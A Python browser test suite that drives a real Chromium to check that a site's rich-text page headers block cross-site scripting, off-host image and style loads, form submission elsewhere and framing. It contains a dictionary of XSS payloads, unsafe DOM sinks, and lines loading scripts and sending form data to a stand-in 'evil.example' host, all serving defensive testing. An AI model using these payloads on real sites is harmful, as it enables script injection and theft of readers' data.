"""The headers for pages with rich text, in a real Chromium: raw markup does not run."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, field

import pytest
from playwright.sync_api import Browser, Error, Route, sync_playwright

from stockade.sanitization import sanitize_html
from stockade.sanitization.pages import rich_text_page_policy

pytestmark = pytest.mark.browser

SITE = "https://site.example"
PIXEL = bytes.fromhex(
    "47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b"
)
ARGUMENTS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking"]

RUN = "window.ran=1"
PAYLOADS = {
    "script": f"<script>{RUN}</script>",
    "image": f"<img src=x onerror='{RUN}'>",
    "svg": f"<svg onload='{RUN}'></svg>",
    "svg script": f"<svg><script>{RUN}</script></svg>",
    "details": f"<details open ontoggle='{RUN}'>a</details>",
    "frame": f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "frame of script": f"<iframe src='javascript:parent.{RUN}'></iframe>",
    "data script": f"<script src='data:text/javascript,{RUN}'></script>",
    "remote script": "<script src='https://evil.example/run.js'></script>",
    "style event": f"<style onload='{RUN}'></style>",
    "animation": "<style>@keyframes x{}</style>"
    f"<b style='animation:x 1s' onanimationstart='{RUN}'>a</b>",
    "focus": f"<input autofocus onfocus='{RUN}'>",
    "base": "<base href='https://evil.example/'><script src='/run.js'></script>",
}
# What a script of the page does with a string, and what a reader does with a link.
SINKS = {
    "innerHTML": "document.body.innerHTML = text",
    "outerHTML": "document.querySelector('main').outerHTML = text",
    "insertAdjacentHTML": "document.body.insertAdjacentHTML('beforeend', text)",
    "write": "document.write(text)",
    "parser": "new DOMParser().parseFromString(text, 'text/html')",
    "fragment": "document.createRange().createContextualFragment(text)",
    "srcdoc": "document.createElement('iframe').srcdoc = text",
    "script text": "document.createElement('script').text = text",
    "eval": "eval(text)",
    "timer": "setTimeout(text)",
}


@dataclass
class Seen:
    """What a page has done."""

    ran: bool = False
    requests: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)


@pytest.fixture(scope="module")
def browser(chromium_path: str) -> Iterator[Browser]:
    """A real Chromium."""
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium_path, args=ARGUMENTS)
        yield browser
        browser.close()


def show(
    browser: Browser, body: str, headers: dict[str, str], *, script: str = "", click: bool = False
) -> Seen:
    """Open a page and say what it did; every host answers, so that only the headers can stop it."""
    seen = Seen()

    def answer(route: Route) -> None:
        url = route.request.url
        if url == f"{SITE}/":
            page = (
                f"<!doctype html><title>t</title><main>{body}</main><script src=/app.js></script>"
            )
            route.fulfill(body=page, headers={**headers, "Content-Type": "text/html"})
            return
        seen.requests.append(url)
        if url.endswith(".js"):
            code = RUN if url == "https://evil.example/run.js" else script
            route.fulfill(body=code, content_type="text/javascript")
        elif url.endswith(".gif"):
            route.fulfill(body=PIXEL, content_type="image/gif")
        else:
            route.fulfill(status=404)

    with browser.new_context() as context:
        context.route("**/*", answer)
        page = context.new_page()
        page.on("pageerror", lambda error: seen.errors.append(error.name or ""))
        page.goto(f"{SITE}/", wait_until="load")
        if click:
            page.locator("main a").click(no_wait_after=True)
        # Handlers of loads and animations have run when two frames have been drawn.
        page.evaluate(
            "() => new Promise(r => requestAnimationFrame(() => requestAnimationFrame(r)))"
        )
        seen.ran = page.evaluate("() => 'ran' in window")
    return seen


@pytest.mark.parametrize("payload", PAYLOADS.values(), ids=PAYLOADS.keys())
def test_raw_markup_does_not_run(browser: Browser, payload: str) -> None:
    """Markup that no sanitizer has seen runs without the headers, and not with them."""
    assert show(browser, payload, {}).ran
    assert not show(browser, payload, rich_text_page_policy("article")).ran


def test_a_link_of_script_does_not_run(browser: Browser) -> None:
    """A click on a link to script does nothing."""
    link = f"<a href='javascript:{RUN}'>a</a>"
    assert show(browser, link, {}, click=True).ran
    assert not show(browser, link, rich_text_page_policy(), click=True).ran


@pytest.mark.parametrize("sink", SINKS.values(), ids=SINKS.keys())
def test_a_string_is_no_html(browser: Browser, sink: str) -> None:
    """A script of the page that hands a string to the browser as HTML or code gets an error."""
    script = f"const text = \"<img src=x onerror='{RUN}'>\"; {sink}"
    seen = show(browser, "", rich_text_page_policy(), script=script)
    assert not seen.ran
    # eval() is stopped by script-src already.
    assert seen.errors in (["TypeError"], ["EvalError"])


def test_the_pages_own_policy_works(browser: Browser) -> None:
    """A Trusted Types policy that the page names may make HTML; another one may not be made."""
    script = (
        "const rules = {createHTML: () => '<b id=made>a</b>'};"
        "const make = name => trustedTypes.createPolicy(name, rules);"
        "document.querySelector('main').innerHTML = make('app').createHTML('');"
        "if (document.getElementById('made')) window.ran = 1; make('other')"
    )
    seen = show(browser, "", rich_text_page_policy(trusted_types=["app"]), script=script)
    assert seen.ran
    assert seen.errors == ["TypeError"]


def test_images_are_loaded_from_named_hosts_alone(browser: Browser) -> None:
    """An image of another host is not asked for, so that the host learns nothing."""
    body = "".join(
        f'<img src="{source}">'
        for source in ("https://i.example/a.gif", "https://evil.example/b.gif", "/c.gif")
    )
    seen = show(browser, body, rich_text_page_policy("article", image_hosts=["i.example"]))
    images = {url for url in seen.requests if url.endswith(".gif")}
    assert images == {"https://i.example/a.gif", f"{SITE}/c.gif"}


def test_a_style_loads_and_shows_nothing(browser: Browser) -> None:
    """Markup can neither load a style nor carry one."""
    body = (
        "<link rel=stylesheet href=https://evil.example/a.css><style>@import url(//evil.example/b);"
        "main{background:url(//evil.example/c)}</style>"
        "<p style='background:url(//evil.example/d)'>a</p>"
    )
    seen = show(browser, body, rich_text_page_policy())
    assert [url for url in seen.requests if "evil.example" in url] == []


@pytest.mark.parametrize("is_guarded", [False, True])
def test_a_form_is_not_sent_elsewhere(browser: Browser, is_guarded: bool) -> None:
    """A form in the text can't send what a reader types to another host."""
    headers = rich_text_page_policy() if is_guarded else {}
    sent = []

    def answer(route: Route) -> None:
        if route.request.url == f"{SITE}/":
            page = "<form action=https://evil.example/><input name=a value=b></form>"
            route.fulfill(body=page, headers={**headers, "Content-Type": "text/html"})
        else:
            sent.append(route.request.url)
            route.fulfill(body="")

    with browser.new_context() as context:
        context.route("**/*", answer)
        page = context.new_page()
        page.goto(f"{SITE}/", wait_until="load")
        submit = "document.querySelector('form').submit()"
        if is_guarded:
            stopped = page.evaluate(
                "() => new Promise(stop => { document.addEventListener('securitypolicyviolation',"
                f" event => stop(event.effectiveDirective)); {submit} }})"
            )
            assert (stopped, sent) == ("form-action", [])
        else:
            with page.expect_navigation():
                page.evaluate(submit)
            assert sent == ["https://evil.example/?a=b"]


def test_sanitized_text_is_shown_whole(browser: Browser) -> None:
    """The headers take nothing away from what the sanitizer leaves."""
    body = sanitize_html(
        '<h4>a</h4><table><tr><td colspan=2>b</table><img src="/c.gif" alt=d>', "article"
    )
    script = (
        "if (document.querySelector('main td').colSpan === 2"
        " && document.querySelector('main img').referrerPolicy === 'no-referrer') window.ran = 1"
    )
    seen = show(browser, body, rich_text_page_policy("article"), script=script)
    assert (seen.ran, seen.errors) == (True, [])
    assert f"{SITE}/c.gif" in seen.requests


def test_the_page_is_not_framed(browser: Browser) -> None:
    """Nobody else's page shows ours in a frame."""
    headers = rich_text_page_policy()

    def answer(route: Route) -> None:
        if route.request.url == f"{SITE}/":
            route.fulfill(body="ours", headers={**headers, "Content-Type": "text/html"})
        else:
            route.fulfill(body=f"<iframe src='{SITE}/'></iframe>", content_type="text/html")

    with browser.new_context() as context:
        context.route("**/*", answer)
        page = context.new_page()
        page.goto("https://evil.example/", wait_until="load")
        (frame,) = page.frames[1:]
        try:
            text = frame.inner_text("body", timeout=1_000)
        except Error:
            text = ""
        assert "ours" not in text
